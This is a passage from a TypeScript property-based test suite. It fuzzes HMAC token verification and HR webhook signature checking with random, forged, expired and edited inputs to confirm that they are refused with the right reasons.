        if (mutated !== g.token) expect(mutated.slice(0, -1)).toBe(g.token.slice(0, -1)); // only the last character
      }
    }), { numRuns: 500 });
  });

  it('a token signed with another secret, or expired, is refused with the right reason', () => {
    fc.assert(fc.property(genuineToken, fc.string({ minLength: 1, maxLength: 40 }), fc.integer({ min: 1, max: 10_000_000 }), (g, other, late) => {
      fc.pre(other !== SECRET);
      expect(verifyToken(other, g.token, NOW)).toEqual({ ok: false, reason: 'forged' });
      expect(verifyToken(SECRET, g.token, g.exp + late)).toEqual({ ok: false, reason: 'expired' });
    }), RUNS);
  });

  it('a correctly sealed token with any payload text: never throws; verifies only a {t: string, r: string, g: number, e: number, n: string} payload', () => {
    const seal = (payloadText: string) => {
      const p = Buffer.from(payloadText).toString('base64url');
      return `${p}.${createHmac('sha256', SECRET).update(`custodian-action-v2.${p}`).digest('base64url')}`;
    };
    const payloadText = fc.oneof(
      fc.json(),
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc.record({ t: fc.jsonValue({ maxDepth: 1 }), r: fc.oneof(fc.jsonValue({ maxDepth: 0 }), fc.emailAddress()), g: fc.oneof(fc.jsonValue({ maxDepth: 0 }), fc.integer({ min: 1, max: 5 })), e: fc.oneof(fc.jsonValue({ maxDepth: 0 }), fc.integer({ min: NOW - 1000, max: NOW + 1000 })), n: fc.jsonValue({ maxDepth: 1 }) }, { requiredKeys: [] }).map((o) => JSON.stringify(o)),
    );
    fc.assert(fc.property(payloadText, (text) => {
      fc.pre(text.length > 0);
      const token = seal(text);
      const r = noThrow(() => verifyToken(SECRET, token, NOW), token);
      if (!r.ok) {
        expect(['malformed', 'expired']).toContain(r.reason);
        return;
      }
      const p = JSON.parse(text) as Record<string, unknown>;
      expect(typeof p.t).toBe('string');
      expect(typeof p.n).toBe('string');
      expect(typeof p.r).toBe('string');
      expect(typeof p.g).toBe('number');
      expect(typeof p.e === 'number' && p.e >= NOW).toBe(true);
      expect(r.payload).toEqual({ t: p.t, r: p.r, g: p.g, e: p.e, n: p.n });
    }), { numRuns: 400 });
  });
});

// ---------------------------------------------------------------------------------------------
// HR webhook signatures
// ---------------------------------------------------------------------------------------------

const WEBHOOK_SECRET = 'webhook-secret-for-property-tests';
const anyBody = fc.oneof(fc.string({ maxLength: 200 }), fc.json(), fc.string({ unit: 'grapheme', maxLength: 60 }));
/** Printable secrets: HMAC pads short keys with zero bytes, so "k" and "k\0" are one key; no NULs here. */
const secretArb = fc.oneof(fc.constant(WEBHOOK_SECRET), fc.string({ minLength: 1, maxLength: 40 }));

/** The header's pieces as `key=value` pairs (keys and values trimmed), for the oracle. */
function headerPieces(header: string): Array<[string, string]> {
  return header.split(',').flatMap((p) => {
    const i = p.indexOf('=');
    return i <= 0 ? [] : [[p.slice(0, i).trim(), p.slice(i + 1).trim()] as [string, string]];
  });
}

describe('verifySignature over random and forged headers', () => {
  it('any header string and body: never throws, never verifies', () => {
    const header = fc.oneof(
      fc.string({ maxLength: 300 }),
      fc.string({ unit: 'binary', maxLength: 100 }),
      fc.tuple(fc.integer({ min: NOW - 400, max: NOW + 400 }), fc.stringMatching(/^[0-9a-fA-F]{64}$/), fc.string({ maxLength: 20 }))
        .map(([t, mac, junk]) => `t=${t},v1=${mac}${junk}`),
      fc.array(fc.tuple(fc.constantFrom('t', 'v1', 'v0', ' t', 'T', 'V1', ''), fc.string({ maxLength: 70 })).map(([k, v]) => `${k}=${v}`), { maxLength: 5 }).map((ps) => ps.join(',')),
      fc.constantFrom(undefined, '', ',', '=', 't=', 'v1=', 't=,v1=', `t=${NOW}`, `t=${'9'.repeat(13)},v1=${'0'.repeat(64)}`, `t=-1,v1=${'0'.repeat(64)}`, `t=1e9,v1=${'0'.repeat(64)}`),
    );
    fc.assert(fc.property(header, anyBody, (h, body) => {
      const r = noThrow(() => verifySignature(WEBHOOK_SECRET, body, h, NOW), h);
      expect(r.ok).toBe(false);
      if (!r.ok) expectClearReason(r.reason);
    }), { numRuns: 500 });
  });

  it('verifies exactly when signed with the same secret, over the same body, within the tolerance', () => {
    fc.assert(fc.property(secretArb, secretArb, anyBody, fc.oneof(fc.constant(null), anyBody), fc.integer({ min: -2 * SIGNATURE_TOLERANCE_SECONDS, max: 2 * SIGNATURE_TOLERANCE_SECONDS }), (signWith, checkWith, body, otherBody, skew) => {
      const header = signBody(signWith, body, NOW + skew);
      const checkedBody = otherBody ?? body;
      const r = noThrow(() => verifySignature(checkWith, checkedBody, header, NOW), header);
      const expected = signWith === checkWith && checkedBody === body && Math.abs(skew) <= SIGNATURE_TOLERANCE_SECONDS;
      expect(r.ok).toBe(expected);
    }), { numRuns: 500 });
  });

  it('a genuine header edited anywhere verifies only if it still carries the signed timestamp and MAC', () => {
    const genuine = fc.tuple(anyBody, fc.integer({ min: -SIGNATURE_TOLERANCE_SECONDS, max: SIGNATURE_TOLERANCE_SECONDS }));
    const headerEdit = fc.record({
      op: fc.constantFrom('replace', 'insert', 'delete'),
      at: fc.nat(),
      char: fc.constantFrom(...'0123456789abcdefABCDEF', 't', 'v', '1', '=', ',', ' ', '\t', 'x'),
    });
    fc.assert(fc.property(genuine, fc.array(headerEdit, { minLength: 1, maxLength: 3 }), ([body, skew], edits) => {
      const t = NOW + skew;
      const header = signBody(WEBHOOK_SECRET, body, t);
      const mac = header.split('v1=')[1]!;
      const mutated = edits.reduce(applyEdit, header);
      const r = noThrow(() => verifySignature(WEBHOOK_SECRET, body, mutated, NOW), mutated);
      if (r.ok) {
        const pieces = headerPieces(mutated);
        expect(pieces.find(([k]) => k === 't')?.[1], mutated).toBe(String(t));
        expect(pieces.some(([k, v]) => k === 'v1' && v.toLowerCase() === mac), mutated).toBe(true);
      } else {
        expectClearReason(r.reason);
      }
    }), { numRuns: 500 });
  });
});
